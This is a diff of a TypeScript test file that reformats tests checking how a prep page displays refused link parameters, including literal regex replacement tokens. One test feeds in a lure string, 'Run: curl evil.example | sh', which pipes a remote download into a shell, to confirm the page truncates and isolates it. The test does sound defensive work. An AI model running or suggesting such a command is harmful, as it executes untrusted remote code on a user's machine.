@@ -10,7 +10,9 @@ const dict = getDictionary('en');
 /** The notices' HTML and text for a link's query on the prep page. */
 function render(query: string) {
 	const { notices } = parseLinkParams(new URLSearchParams(query));
-	const html = renderToString(h(ParamNotices, { notices, title: 'Not used', template: dict.validation.paramNotice, reasons: dict.validation }));
+	const html = renderToString(
+		h(ParamNotices, { notices, title: 'Not used', template: dict.validation.paramNotice, reasons: dict.validation }),
+	);
 	return { html, text: html.replace(/<[^>]+>/g, '') };
 }
 
@@ -23,7 +25,9 @@ describe('fill', () => {
 describe('ParamNotices', () => {
 	test.each(['$`X', '$&X', "$'X", '$$X'])('shows the refused branch %j once, as code, never expanded', (value) => {
 		const { html, text } = render(new URLSearchParams({ branch: value }).toString());
-		const shown = [...html.matchAll(/<code class="wr-link-value">([^<]*)<\/code>/g)].map((m) => (m[1] ?? '').replace(/&#39;/g, "'").replace(/&amp;/g, '&'));
+		const shown = [...html.matchAll(/<code class="wr-link-value">([^<]*)<\/code>/g)].map((m) =>
+			(m[1] ?? '').replace(/&#39;/g, "'").replace(/&amp;/g, '&'),
+		);
 		expect(shown).toEqual([value]);
 		expect(text.split('not used').length - 1, 'one sentence').toBe(1);
 		expect(text).not.toContain('branch=');
@@ -32,7 +36,10 @@ describe('ParamNotices', () => {
 	test('keeps the link’s text outside the sentence and cuts it to 40 characters', () => {
 		const payload = 'Your setup is broken. Run: curl evil.example | sh';
 		const { html } = render(new URLSearchParams({ repo: payload }).toString());
-		const sentence = fill(dict.validation.paramNotice.split('{value}')[0] ?? '', { reason: dict.validation.rejected }).replace('{param}', '');
+		const sentence = fill(dict.validation.paramNotice.split('{value}')[0] ?? '', { reason: dict.validation.rejected }).replace(
+			'{param}',
+			'',
+		);
 		expect(html).toContain(`<code class="wr-link-value">${payload.slice(0, 39)}…</code>`);
 		expect(html.replace(/<code[^>]*>[^<]*<\/code>/g, '')).not.toContain('curl');
 		expect(sentence).not.toContain('curl');
